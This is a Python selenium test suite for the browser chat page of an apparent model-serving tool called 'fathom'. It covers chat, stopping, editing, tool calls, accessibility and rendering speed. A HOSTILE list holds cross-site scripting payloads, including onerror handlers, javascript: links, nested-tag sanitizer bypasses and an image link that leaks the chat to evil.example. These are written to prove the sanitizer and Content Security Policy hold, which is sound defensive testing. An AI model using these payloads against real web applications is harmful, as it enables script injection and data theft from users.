"""The page that `fathom serve` has at /, in a real browser: Chromium, driven by selenium.

What a model writes is made hostile by structured output: a model that may only say one thing says it."""

import json
import re
import time
from pathlib import Path

import pytest
import requests
from axe_selenium_python import Axe
from conftest import ROOT, eventually, serving
from selenium import webdriver
from selenium.webdriver.common.action_chains import ActionChains
from selenium.webdriver.common.by import By
from selenium.webdriver.common.keys import Keys

TOOLS = [{"type": "function", "function": {
    "name": "get_time", "description": "Current time in a city",
    "parameters": {"type": "object", "properties": {"city": {"type": "string"}}, "required": ["city"]}}}]
ENDLESS = {"ignore_eos": True, "max_tokens": 3000}
GREEDY = {"temperature": "0"}


class Page:
    """The page in a browser, in the words of who uses it."""

    def __init__(self, driver, url):
        self.driver, self.url = driver, url
        self.open()

    def open(self, **settings):
        """Anew, with nothing kept but these settings."""
        if not self.driver.current_url.startswith(self.url):
            self.driver.get(self.url)
        self.run("localStorage.clear(); localStorage.setItem('fathom.settings', JSON.stringify(arguments[0]));"
                 "history.replaceState(null, '', '/')", GREEDY | settings)
        self.driver.refresh()

    def run(self, script, *arguments):
        return self.driver.execute_script(script, *arguments)

    def one(self, selector):
        return self.driver.find_element(By.CSS_SELECTOR, selector)

    def all(self, selector):
        return self.driver.find_elements(By.CSS_SELECTOR, selector)

    def texts(self, selector):
        return [found.text for found in self.all(selector)]

    def type(self, text):
        self.one("#entry").send_keys(text)

    def idle(self):
        return self.one("#send").is_displayed() and not self.all("[aria-busy=true]")

    def wait(self, timeout_s=20):
        assert eventually(self.idle, timeout_s), self.texts(".answer")

    def ask(self, text):
        self.type(text + Keys.ENTER)
        self.wait()
        return self.texts(".answer .text")[-1]

    def focused(self):
        return self.driver.switch_to.active_element

    def faults(self):
        """What Chromium complained of: scripts that failed, or that the policy kept from running."""
        return [entry["message"] for entry in self.driver.get_log("browser") if entry["level"] == "SEVERE"]


@pytest.fixture(scope="module")
def driver():
    options = webdriver.ChromeOptions()
    options.binary_location = "/usr/bin/chromium"
    for flag in ("--headless=new", "--no-sandbox", "--disable-dev-shm-usage", "--window-size=1200,880"):
        options.add_argument(flag)
    options.set_capability("goog:loggingPrefs", {"browser": "ALL"})
    started = webdriver.Chrome(options=options, service=webdriver.ChromeService("/usr/bin/chromedriver"))
    yield started
    started.quit()


@pytest.fixture
def page(driver, server):
    driver.execute_cdp_cmd("Emulation.clearDeviceMetricsOverride", {})
    opened = Page(driver, server.url)
    yield opened
    assert not opened.faults()


def test_a_talk_with_its_thinking_folded(page):
    assert page.ask("What is 17 + 25?") == "42"
    thinking = page.one(".thinking")
    assert re.fullmatch(r"Thought (for \d+\.\d s|briefly)", thinking.text)
    page.one(".thinking summary").click()
    assert "7 + 5" in thinking.text
    assert re.match(r"\d+ tokens · (\d+\.\d tokens/s · )?first after ", page.one(".stats").text)
    assert page.ask("What is 3 + 4?") == "7"
    assert page.one("#status").get_attribute("textContent") == "The answer is complete. 7"
    assert page.texts("h1") == ["tiny-r1"]


def test_how_fast_it_is_is_said(page):
    page.open(fields=json.dumps(ENDLESS | {"max_tokens": 1000}))
    began = time.monotonic()
    page.ask("What is 2 + 2?")
    all_over = 1000 / (time.monotonic() - began)
    said = float(re.match(r"1000 tokens · (\d+\.\d) tokens/s · first after ", page.one(".stats").text)[1])
    assert 0.9 * all_over < said < 20 * all_over
    assert page.texts(".note") == ["Cut off: the answer has as many tokens as it may have."]


def test_it_asks_nobody_but_its_server(page):
    page.ask("What is 2 + 2?")
    asked = page.run("return performance.getEntries().map((entry) => entry.name).filter((n) => n.includes(':'))")
    assert asked and all(name.startswith(page.url) for name in asked)


def test_talks_outlive_a_reload(page):
    page.ask("What is 2 + 2?")
    page.one("#new-talk").click()
    page.ask("What is 3 + 3?")
    page.driver.refresh()
    assert page.texts(".said") == ["What is 3 + 3?"] and page.texts(".answer .text") == ["6"]
    assert page.texts(".talk") == ["What is 3 + 3?", "What is 2 + 2?"]
    page.all(".talk")[1].click()
    assert page.texts(".answer .text") == ["4"]
    page.run("window.confirm = () => true")
    page.one("[aria-label='Delete the talk: What is 2 + 2?']").click()
    assert page.texts(".talk") == ["What is 3 + 3?"] and not page.all(".message")


def test_stop(page, server):
    page.open(fields=json.dumps(ENDLESS))
    page.type("What is 2 + 2?" + Keys.ENTER)
    assert eventually(lambda: page.one(".thinking").is_displayed() or page.texts(".answer .text") != [""])
    page.one("#stop").click()
    page.wait(5)
    assert page.texts(".note") == ["Stopped."]
    assert eventually(lambda: server.metric("vllm:num_requests_running") == 0)
    page.type("And 3 + 3?" + Keys.ENTER)
    assert eventually(lambda: page.one("#stop").is_displayed())
    page.type(Keys.ESCAPE)
    page.wait(5)
    assert page.texts(".note") == ["Stopped."] * 2


def test_a_reload_keeps_what_was_written(page):
    page.open(fields=json.dumps(ENDLESS))
    page.type("What is 2 + 2?" + Keys.ENTER)
    assert eventually(lambda: "4" in page.texts(".answer .text")[0])
    page.driver.refresh()
    assert "4" in page.texts(".answer .text")[0] and page.texts(".note") == ["Stopped."]
    page.wait(5)


def test_regenerate_and_edit(page):
    page.ask("What is 2 + 2?")
    page.ask("What is 3 + 3?")
    page.all("article.answer .foot button")[0].click()  # of the first answer: what follows goes
    page.wait()
    assert page.texts(".said") == ["What is 2 + 2?"] and page.texts(".answer .text") == ["4"]
    page.one(".user .foot button").click()
    area = page.focused()
    assert area.get_attribute("value") == "What is 2 + 2?"
    area.send_keys(Keys.CONTROL, "a", Keys.NULL, "What is 5 + 4?", Keys.ENTER)
    page.wait()
    assert page.texts(".said") == ["What is 5 + 4?"] and page.texts(".answer .text") == ["9"]
    assert page.texts(".talk") == ["What is 5 + 4?"]


@pytest.mark.parametrize("clipboard", ["own", "none"])
def test_copy(page, clipboard):
    """By the clipboard, and where a page has none: not this machine, and no TLS."""
    if clipboard == "none":
        page.run("Object.defineProperty(navigator, 'clipboard', {value: undefined})")
    page.ask("What is 17 + 25?")
    page.one(".answer [aria-label='Copy this answer']").click()
    assert eventually(lambda: page.one("#status").get_attribute("textContent") == "Copied")
    page.one("#entry").send_keys(Keys.CONTROL, "v")
    assert page.one("#entry").get_attribute("value") == "42"


HOSTILE = [
    "<script>window.hacked = 1</script>",
    "<img src=x onerror='window.hacked = 1'>",
    "<svg><style><img src=x onerror=window.hacked=1></style></svg>",
    "<math><mtext><table><mglyph><style><!--</style><img src onerror=window.hacked=1>",
    "[a](javascript:window.hacked=1) [b](JaVaScRiPt:window.hacked=1) [c](data:text/html,<script>1</script>)",
    "[d](vbscript:x) <a href='javascript:window.hacked=1'>e</a> [f](https://a.example \"\\\" onclick=alert(1) \")",
    "![g](javascript:window.hacked=1) ![h](https://evil.example/?all=that-was-said) <https://b.example/\"onx=1>",
    "<iframe srcdoc='<script>parent.hacked = 1</script>'></iframe><base href=//evil><form action=//evil id=entry>",
    "```x\" onmouseover=\"window.hacked=1\n</code></pre><script>window.hacked = 1</script>\n```",
    "```html\n<img src=x onerror=window.hacked=1></code><script>window.hacked=1</script>\n```",
    "$$</span><img src=x onerror=window.hacked=1>$$ \\(<script>window.hacked=1</script>\\)",
    "<!-- </script><script>window.hacked = 1</script> -->",
]


def test_what_a_model_writes_never_runs(page):
    wrong = "script, img, svg, math, iframe, form, base, style, input, [id], [style], [onclick], [onerror], [onmouseover]"
    for text in HOSTILE:
        page.open(fields=json.dumps({"structured_outputs": {"choice": [text]}}))
        page.ask("Go on.")
        source = page.one(".answer .text").get_attribute("textContent")
        assert source.strip(), text
        assert not page.all(", ".join(f".message {name}" for name in wrong.split(", "))), text
        for link in page.all(".answer .text a"):
            address = link.get_attribute("href")
            assert not address or re.match("https://(a|b|evil).example/", address), text
            ActionChains(page.driver).move_to_element(link).perform()
        assert page.run("return window.hacked ?? null") is None, text
        assert len(page.driver.window_handles) == 1


def test_the_policy_stands_behind_the_cleaning(page):
    """Even a page that took what a model writes for HTML would not run it."""
    for script in (
        "document.body.innerHTML = '<img src=x onerror=\"window.hacked = 1\">'",
        "trustedTypes.createPolicy('own', {createHTML: (text) => text})",
        "const made = document.createElement('script'); made.text = 'window.hacked = 1'; document.body.append(made)",
    ):
        assert page.run(f"try {{ {script}; return 'ran'; }} catch (error) {{ return error.name; }}") == "TypeError"
    frame = "document.body.append(Object.assign(document.createElement('img'), {src: 'https://evil.example/x'}))"
    page.run(frame)
    assert page.run("return window.hacked ?? null") is None
    assert eventually(lambda: any("Content Security Policy" in fault for fault in page.faults()))
    page.faults()


def test_a_server_that_lies_runs_nothing_either(page):
    """Names of tools, arguments, errors and finish reasons are text too."""
    evil = "<img src=x onerror='window.hacked=1'>"
    page.run("""
      const chunk = (choice) => `data: ${JSON.stringify({choices: [{index: 0, ...choice}]})}\\n\\n`;
      const evil = arguments[0];
      const text = chunk({delta: {reasoning_content: evil}}) +
        chunk({delta: {tool_calls: [{index: 0, id: evil, function: {name: evil, arguments: evil}}]}}) +
        `data: ${JSON.stringify({error: {message: evil}})}\\n\\n`;
      window.fetch = async () => new Response(text);""", evil)
    page.type(evil + Keys.ENTER)
    page.wait()
    assert page.texts(".note") == [evil] and page.texts(".talk") == [evil]
    assert page.texts(".call .label") == [f"Calls {evil}"]
    assert not page.all("img") and page.run("return window.hacked ?? null") is None


def test_tools_are_shown_and_answered(page):
    page.one("#open-settings").click()
    page.one("#settings summary").click()
    tools = page.one("[name=tools]")
    tools.send_keys("[{")
    page.one("#close-settings").click()
    assert page.one("#settings-fault").text.startswith("Tools: this is not JSON")
    page.run("arguments[0].value = arguments[1]", tools, json.dumps(TOOLS))
    page.one("#close-settings").click()
    page.ask("What time is it in Oslo?")
    assert page.texts(".call .label") == ["Calls get_time"]
    assert json.loads(page.one(".call pre").text) == {"city": "Oslo"}
    page.one(".results textarea").send_keys('{"time": "10:15"}')
    page.one(".results button").click()
    page.wait()
    assert page.texts(".tool .label") == ["Result of get_time"] and not page.all(".results")
    assert "10:15" in page.texts(".answer .text")[-1]


def test_probabilities_of_tokens(page):
    page.open(logprobs=True)
    assert page.ask("What is 2 + 2?") == "4"
    page.one(".answer [aria-pressed]").click()
    tokens = page.all(".token")
    assert "</think>4" in "".join(token.text for token in tokens)
    ActionChains(page.driver).move_to_element(tokens[0]).perform()
    card = page.one("#token-card")
    assert card.is_displayed() and len(page.texts("#token-card li")) == 5
    assert re.match(r'".+" \d+\.\d %', card.text)
    page.run("arguments[0].focus()", tokens[0])
    page.focused().send_keys(Keys.ARROW_RIGHT)
    assert page.focused() == tokens[1] and page.one("#token-card strong").text == tokens[1].get_attribute("aria-label")


def test_a_key_goes_into_the_settings(driver):
    with serving("--api-key", "secret") as locked:
        page = Page(driver, locked.url)
        assert eventually(lambda: "needs a key" in page.one("#hint").text)
        page.type("What is 2 + 2?" + Keys.ENTER)
        assert eventually(lambda: page.one("#settings").is_displayed())
        page.focused().send_keys("secret", Keys.ENTER)
        assert eventually(lambda: page.texts("h1") == ["tiny-r1"])
        page.one(".answer .foot button").click()
        page.wait()
        assert page.texts(".answer .text") == ["4"]
        page.faults()  # Chromium's own lines about 401


def test_it_can_be_left_out():
    with serving("--no-webui") as server:
        assert requests.get(server.url, timeout=10).status_code == 404
        origin = {"Origin": server.url}
        assert requests.get(f"{server.url}/v1/models", headers=origin, timeout=10).status_code == 403


def violations(page):
    axe = Axe(page.driver)
    axe.inject()
    found = axe.run()["violations"]
    return [(rule["id"], [node["html"][:200] for node in rule["nodes"]]) for rule in found]


@pytest.mark.parametrize("theme", ["light", "dark"])
def test_axe_finds_nothing(page, theme):
    text = "# A\n\n```python\ndef f(): return 'a' # b\n```\n\n|a|b|\n|-|-|\n|1|[c](https://c.example)|\n\n> `d`"
    page.open(theme=theme, logprobs=True, fields=json.dumps({"structured_outputs": {"choice": [text]}}))
    assert not violations(page)
    page.ask("What is 2 + 2?")
    assert not violations(page)
    page.one(".answer [aria-pressed]").click()
    assert not violations(page)
    page.one("#open-settings").click()
    page.one("#settings summary").click()
    assert not violations(page)


def test_the_keyboard_is_enough(page):
    assert page.focused().get_attribute("id") == "entry"
    page.type("What is" + Keys.SHIFT + Keys.ENTER + Keys.NULL + "2 + 2?")
    assert page.one("#entry").get_attribute("value") == "What is\n2 + 2?"
    page.ask("")
    page.run("document.activeElement.blur(); document.querySelector('.skip').focus()")
    seen = []
    while len(seen) < 20 and "send" not in seen:
        ActionChains(page.driver).send_keys(Keys.TAB).perform()
        focused = page.focused()
        seen.append(focused.get_attribute("id") or focused.text or focused.get_attribute("aria-label"))
    expected = ["new-talk", "What is", "open-settings", "scroll", "Edit", "Copy", "Thought", "Regenerate", "entry", "send"]
    places = [next((i for i, name in enumerate(seen) if name.startswith(word)), None) for word in expected]
    assert None not in places and places == sorted(places), seen
    page.one("#open-settings").send_keys(Keys.ENTER)
    assert page.one("#settings").is_displayed()
    page.focused().send_keys(Keys.ESCAPE)
    assert not page.one("#settings").is_displayed() and page.focused().get_attribute("id") == "open-settings"


def test_a_phone(page):
    metrics = {"width": 360, "height": 700, "deviceScaleFactor": 1, "mobile": True}
    page.driver.execute_cdp_cmd("Emulation.setDeviceMetricsOverride", metrics)
    page.open(fields=json.dumps({"structured_outputs": {"choice": ["```\n" + "wide " * 60 + "\n```\n" + "w" * 200]}}))
    page.ask("What is 2 + 2?")
    assert page.run("return document.documentElement.scrollWidth <= innerWidth")
    assert page.run("const s = document.getElementById('scroll'); return s.scrollWidth <= s.clientWidth")
    assert not violations(page)
    assert not page.one("#new-talk").is_displayed()
    page.one("#menu").click()
    assert eventually(lambda: page.one("#new-talk").is_displayed() and page.focused() == page.one("#new-talk"))
    page.focused().send_keys(Keys.ESCAPE)
    assert eventually(lambda: not page.one("#new-talk").is_displayed())
    page.one("#open-settings").click()
    assert page.run("const d = document.getElementById('settings'); return d.scrollWidth <= d.clientWidth")


# 5,000 events a second for three seconds, each a word of a text with lists and code.
FAST = """
  const words = ('* some **words** of a list\\n* and more\\n\\n' + '```python\\nx = 1 # one\\n```\\n\\nA paragraph here.\\n\\n')
    .split(/(?<=[ \\n])/);
  const chunk = (i) => `data: ${JSON.stringify({choices: [{index: 0, delta: {content: words[i % words.length]}}]})}\\n\\n`;
  window.fetch = async () => new Response(new ReadableStream({async start(stream) {
    const began = performance.now();
    for (let sent = 0; sent < 15000;) {
      for (const due = Math.min(15000, 5 * (performance.now() - began)); sent < due; ++sent) {
        stream.enqueue(new TextEncoder().encode(chunk(sent)));
      }
      await new Promise((done) => setTimeout(done, 4));
    }
    window.sentAfter = performance.now() - began;
    stream.enqueue(new TextEncoder().encode('data: [DONE]\\n\\n'));
    stream.close();
  }}));
  window.frames = []; let last = performance.now();
  const note = (now) => { window.frames.push(now - last); last = now; requestAnimationFrame(note); };
  requestAnimationFrame(note);
"""


def test_the_page_keeps_up_with_5000_tokens_a_second(page, capsys):
    page.run(FAST)
    began = time.monotonic()
    page.type("Go on." + Keys.ENTER)
    assert eventually(lambda: page.run("return window.sentAfter ?? null") is not None, 20)
    page.wait()
    took = time.monotonic() - began
    words, frames = page.run("return [document.querySelectorAll('.text li').length, window.frames]")
    assert words > 1000
    frames.sort()
    with capsys.disabled():
        print(f"\n15,000 events, sent in {page.run('return window.sentAfter'):.0f} ms; shown after {took:.1f} s; "
              f"frames: median {frames[len(frames) // 2]:.0f} ms, longest {frames[-1]:.0f} ms")
    assert took < 15


def test_its_size_is_as_documented(server, capsys):
    page = requests.get(server.url, timeout=10)
    policy = page.headers["Content-Security-Policy"]
    assert "unsafe" not in policy and "connect-src 'self'" in policy and "default-src 'none'" in policy
    stated = int(re.search(r"one file of (\d+) kB", Path(ROOT / "docs" / "running.md").read_text())[1])
    with capsys.disabled():
        print(f"\nThe page has {len(page.content)} bytes.")
    assert abs(len(page.content) / 1000 - stated) < 10
